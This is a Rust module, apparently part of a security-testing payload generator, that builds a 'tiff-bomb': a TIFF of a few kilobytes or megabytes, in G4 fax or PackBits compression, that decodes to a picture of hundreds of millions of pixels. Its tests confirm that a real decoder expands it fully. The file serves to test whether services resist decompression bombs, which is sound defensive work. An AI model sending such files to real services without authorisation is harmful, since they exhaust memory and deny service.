//! A small TIFF that decodes to a huge picture.
//!
//! TIFF 6.0 with one strip. In fax compression (G4, ITU-T T.6) a white line under a white line is one bit,
//! so that the file is as long as the picture is high, in bits; PackBits says 128 grey pixels in two bytes.

use bytes::Bytes;

use super::sides::{SIDE, chosen, height, width};
use crate::payload::pieces::{once, repeated};
use crate::payload::{About, Body, Family, Form, Group, Parameter, Takes, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "tiff-bomb",
    group: Group::Images,
    about: About {
        summary: "A small TIFF that decodes to a huge picture.",
        provokes: "Document stores, fax and scan import, print shops, OCR: one bit a line of fax compression becomes a \
                   byte a pixel or four.",
        seen: "Go's x/image/tiff: golang/go issue 11389, and CVE-2026-46599 (PackBits); the guards of \
               galkahana/PDF-Writer pull request 400 and AcademySoftwareFoundation/OpenImageIO pull request 5319.",
        becomes: "13,000 × 13,000 is 1.8 kB on the wire in fax compression, 2.7 MB in PackBits; as a thumbnail by way of \
                  RGB, Pillow takes 0.8 GiB for either.",
        safe: "4xx after the directory, which holds width and height.",
    },
    parameters: &[
        width(MOST, SIDE),
        height(MOST, SIDE),
        Parameter {
            name: "compression",
            about: "black and white fax lines, or runs of grey",
            takes: Takes::Word(&["g4", "packbits"]),
        },
    ],
    form: Form::Body(make),
};

/// The strip's length has 32 bits: of so many runs of 128 pixels it has 30.
const MOST: u64 = 1 << 18;

fn make(values: &Values, _: &Turn) -> Body {
    let (width, height) = chosen(values);
    let picture = Picture { width, height, grey: values.text("compression") == "packbits" };
    Body::new("image/tiff", picture.size(), picture.chunks())
}

struct Picture {
    width: u32,
    height: u32,
    grey: bool,
}

const SHORT: u16 = 3;
const LONG: u16 = 4;

impl Picture {
    fn size(&self) -> u64 {
        (self.directory().len() as u64) + self.strip()
    }

    /// Bytes of the strip.
    fn strip(&self) -> u64 {
        match self.grey {
            true => self.row().len() as u64 * u64::from(self.height),
            false => u64::from(self.height / 8) + self.last_lines().len() as u64,
        }
    }

    fn directory(&self) -> Vec<u8> {
        let grey = u32::from(self.grey);
        let entries: [(u16, u16, u32); 9] = [
            (256, LONG, self.width),
            (257, LONG, self.height),
            (258, SHORT, if self.grey { 8 } else { 1 }),
            (259, SHORT, if self.grey { 32_773 } else { 4 }),
            // White is 0 in fax compression, black is 0 in grey.
            (262, SHORT, grey),
            (273, LONG, START),
            (277, SHORT, 1),
            (278, LONG, self.height),
            (279, LONG, self.strip() as u32),
        ];
        let mut directory = b"II*\0\x08\0\0\0".to_vec();
        directory.extend((entries.len() as u16).to_le_bytes());
        for (tag, kind, value) in entries {
            directory.extend([tag.to_le_bytes(), kind.to_le_bytes()].concat());
            directory.extend([1_u32.to_le_bytes(), value.to_le_bytes()].concat());
        }
        directory.extend([0; 4]);
        directory
    }

    /// A row of PackBits: repeats of 128, and what is left; a run never goes over the end of a row.
    fn row(&self) -> Vec<u8> {
        let mut row = [0x81, 0].repeat(self.width as usize / 128);
        match self.width % 128 {
            0 => {}
            left => row.extend([(left as u8 - 1).wrapping_neg(), 0]),
        }
        row
    }

    /// The lines that fill no byte, and the end of the facsimile block.
    fn last_lines(&self) -> Vec<u8> {
        let lines = self.height % 8;
        let bits = ((1_u32 << lines) - 1) << 24 | 0x00_1001;
        let length = lines + 24;
        (bits << (32 - length)).to_be_bytes()[..length.div_ceil(8) as usize].to_vec()
    }

    fn chunks(&self) -> impl Iterator<Item = Bytes> + Send + use<> {
        let (run, rest) = match self.grey {
            true => (repeated(&self.row(), self.strip()), vec![]),
            false => (repeated(&[0xff], u64::from(self.height / 8)), self.last_lines()),
        };
        once(self.directory()).chain(run).chain(once(rest))
    }
}

/// Where the strip starts: header, count, nine entries of twelve bytes, end.
const START: u32 = 8 + 2 + 9 * 12 + 4;

#[cfg(test)]
mod tests {
    use super::*;

    fn wire(width: u32, height: u32, grey: bool) -> Vec<u8> {
        let picture = Picture { width, height, grey };
        let wire: Vec<u8> = picture.chunks().flatten().collect();
        assert_eq!(wire.len() as u64, picture.size());
        wire
    }

    #[test]
    fn a_real_decoder_reads_every_pixel() {
        for (width, height) in [(8, 1), (16, 9), (129, 7), (1000, 803), (2048, 3000), (20_000, 1000)] {
            for grey in [true, false] {
                let mut decoder = tiff::decoder::Decoder::new(std::io::Cursor::new(wire(width, height, grey))).unwrap();
                assert_eq!(decoder.dimensions().unwrap(), (width, height));
                let tiff::decoder::DecodingResult::U8(pixels) = decoder.read_image().unwrap() else { panic!() };
                let (row, sample) = if grey { (width, 0) } else { (width.div_ceil(8), 255) };
                assert_eq!(pixels.len(), row as usize * height as usize);
                assert!(pixels.iter().all(|pixel| *pixel == sample), "{width} × {height} {grey} {:?}", &pixels[..9]);
            }
        }
    }

    #[test]
    fn a_hundred_and_sixty_nine_million_pixels_are_two_kb_or_three_mb() {
        assert_eq!(wire(13_000, 13_000, false).len(), 122 + 13_000 / 8 + 3);
        assert_eq!(wire(13_000, 13_000, true).len() / 100_000, 26);
    }
}
